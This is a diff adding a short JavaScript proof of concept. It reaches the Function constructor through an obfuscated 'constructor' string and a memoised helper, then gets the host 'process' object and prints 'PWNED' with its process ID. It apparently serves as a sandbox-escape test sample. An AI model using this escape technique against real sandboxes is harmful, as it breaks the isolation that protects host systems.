@@ -1,0 +1,9 @@
+'use strict';
+const w = ['con', 'structor'].join('');
+const t = { go: (f) => f[w] };
+t.go({});
+const fn = (x) => x;
+const memo = (f, c = {}) => (k) => c[k] ?? (c[k] = f(k));
+const m = memo(() => t);
+const o = Date.now() > 1 ? m('a') : {};
+console.log('PWNED', o.go(fn)('return process')().pid);
